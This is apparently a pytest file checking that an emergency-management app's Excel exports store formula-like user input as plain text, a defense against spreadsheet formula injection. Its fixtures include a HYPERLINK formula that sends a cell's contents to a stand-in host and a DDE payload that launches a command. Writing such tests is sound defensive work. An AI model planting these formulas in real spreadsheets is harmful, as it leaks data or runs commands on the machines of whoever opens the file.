"""Every spreadsheet the app offers holds data as text: a name typed as `=HYPERLINK(...)` reads back as that
string, never as a live formula (openpyxl writes any string starting with `=` as one)."""

import io
import re

import openpyxl
import pandas as pd
import pytest

from resilient.core import accounts, audit
from resilient.core.accounts import AccountError
from resilient.ops import exports
from tests.conftest import NOW, TODAY
from tests.tree import ROOT, source_files

pytestmark = pytest.mark.both_backends

LEAK = '=HYPERLINK("http://x.invalid/?leak="&B3,"点击")'
HOSTILE = [LEAK, "=1+1", "+1+2", "-3+4", "@SUM(A1)", "#N/A", "=cmd|' /C calc'!A0"]


def cells(data: bytes) -> list:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]


def assert_text(data: bytes, *expected: str) -> None:
    """No cell is a formula (nor an error value), and each hostile value reads back verbatim."""
    found = cells(data)
    assert found
    assert not [c.coordinate for c in found if c.data_type in ("f", "e")], "a cell is a formula"
    values = {c.value for c in found}
    for value in expected:
        assert value in values, value


def test_a_login_name_typed_by_a_stranger_is_text_in_the_audit_export(con):
    with pytest.raises(AccountError):
        accounts.authenticate(con, LEAK, "whatever-123", NOW)
    entries = audit.search(con)
    assert LEAK in set(entries["username"])
    data = exports.audited_excel(con, None, "操作日志", entries, {"username": "用户名"})
    assert_text(data, LEAK)


def test_a_table_download_keeps_hostile_cells_and_headers_as_text(con):
    frame = pd.DataFrame({"name": HOSTILE, "n": range(len(HOSTILE)), "when": [pd.Timestamp(NOW)] * len(HOSTILE)})
    data = exports.audited_excel(con, None, "=表", frame, {"name": "=姓名"})
    assert_text(data, *HOSTILE, "=姓名")
    numbers = [c.value for c in cells(data) if c.column == 2 and c.row > 1]
    assert numbers == list(range(len(HOSTILE)))  # figures stay figures


def test_the_people_under_measure_export_keeps_a_hostile_name_as_text(small):
    from resilient.core.scope import EVERYTHING
    from resilient.places import people

    small.execute("UPDATE resident SET name = $n, phone = '=2+2' WHERE resident_id = 1", {"n": LEAK})
    small.execute("UPDATE building SET name = '=3栋' WHERE building_id = 1")
    data = people.export_under_measure(small, None, EVERYTHING, 1, "=3栋", TODAY, "zh")
    masked = next(c.value for c in cells(data) if str(c.value).startswith("=*"))
    assert_text(data, masked)


def test_the_call_down_workbook_keeps_hostile_text_as_text():
    from resilient.testing import sheets
    from tests.testing.test_sheets import hand_made_book

    assert_text(sheets.workbook(hand_made_book(), "zh"), "=1+1", "<b>王*</b>、=1+1")


def test_the_import_templates_keep_their_examples_as_text(monkeypatch):
    from resilient.imports import sheets

    monkeypatch.setitem(sheets.TEMPLATES, "register", [("姓名", LEAK), ("身份证号", "=1+1")])
    assert_text(sheets.template_bytes("register"), LEAK, "=1+1")


def test_the_gate_template_keeps_its_notes_as_text(monkeypatch):
    from resilient.daily import arrivals

    monkeypatch.setattr(arrivals, "TEMPLATE_NOTES", [("=1+1", "required")])
    assert_text(arrivals.template_bytes("zh"), "=1+1")


def test_the_worked_example_sheets_keep_hostile_names_as_text():
    from resilient.demo import examples

    assert_text(examples.workbook("居民", pd.DataFrame({"姓名": HOSTILE, "房号": ["1502"] * len(HOSTILE)})),
                *HOSTILE, "1502")



def test_the_store_workbook_keeps_hostile_item_names_and_notes_as_text(con):
    """The emergency store's stock and movements: an item named, or a note typed, as a formula stays text."""
    from resilient.core.accounts import User
    from resilient.supplies import store

    con.execute("INSERT INTO community VALUES (1, '测试社区', NULL, NULL)")
    leader = User(1, "leader", "书记", "community_leader", community_id=1)
    item_id = store.add_item(con, leader, 1, LEAK, "只", "masks", now=NOW)
    store.receive(con, leader, item_id, 10, note="=1+1", now=NOW)
    moved = store.movements(con, store.Scope(), TODAY)[["item", "quantity", "note"]]
    data = store.workbook(con, leader, {"库存": store.stock(con, store.Scope(), TODAY)[["name", "on_hand"]],
                                        "出入库": moved}, {"name": "@SUM(A1)", "note": "备注"})
    assert_text(data, LEAK, "=1+1", "@SUM(A1)")
    assert audit.search(con, action="export")["target"].tolist() == ["table:store"]

# Every source file that builds a spreadsheet through the writer, and the test above that feeds it hostile values.
# A new export must be added here with its own test, or the guard below fails.
WRITER_USERS = {
    "resilient/ops/exports.py": test_a_table_download_keeps_hostile_cells_and_headers_as_text,
    "resilient/places/people.py": test_the_people_under_measure_export_keeps_a_hostile_name_as_text,
    "resilient/testing/sheets.py": test_the_call_down_workbook_keeps_hostile_text_as_text,
    "resilient/imports/sheets.py": test_the_import_templates_keep_their_examples_as_text,
    "resilient/daily/arrivals.py": test_the_gate_template_keeps_its_notes_as_text,
    "resilient/demo/examples.py": test_the_worked_example_sheets_keep_hostile_names_as_text,
    "resilient/supplies/store.py": test_the_store_workbook_keeps_hostile_item_names_and_notes_as_text,
}
BYPASS = re.compile(r"\bWorkbook\(|\.to_excel\(|ExcelWriter\(|\.to_csv\(|csv\.writer\(|csv\.DictWriter\(")
WRITER = re.compile(r"\bexports\.(workbook|save|append|excel_bytes)\(")


def test_only_the_writer_makes_spreadsheets():
    """openpyxl's Workbook, pandas' to_excel / to_csv and csv writers are used in resilient/ops/exports.py alone."""
    bypassing = {str(f.relative_to(ROOT)) for f in source_files("resilient", "ui", "views", "app.py", minimum=50)
                 if f.name != "exports.py" and BYPASS.search(f.read_text(encoding="utf-8"))}
    assert not bypassing, f"spreadsheets made outside resilient/ops/exports.py: {sorted(bypassing)}"


def test_every_spreadsheet_the_app_offers_has_a_hostile_value_test():
    users = {str(f.relative_to(ROOT)) for f in source_files("resilient", "ui", "views", "app.py", minimum=50)
             if WRITER.search(f.read_text(encoding="utf-8"))} | {"resilient/ops/exports.py"}
    assert users == set(WRITER_USERS), "add a hostile-value test for each new export to WRITER_USERS"


def test_the_check_sees_a_bypass():
    assert BYPASS.search("wb = openpyxl.Workbook()") and BYPASS.search("frame.to_excel(writer)")
    assert WRITER.search("exports.save(book)") and not BYPASS.search("exports.workbook()")


def test_the_writer_reads_back_what_it_was_given():
    book = exports.workbook()
    sheet = book.active
    exports.append(sheet, [LEAK, 3, 2.5, None, pd.NaT, TODAY])
    found = openpyxl.load_workbook(io.BytesIO(exports.save(book))).active
    assert [c.value for c in found[1]][:3] == [LEAK, 3, 2.5]
    assert found["A1"].data_type == "s"

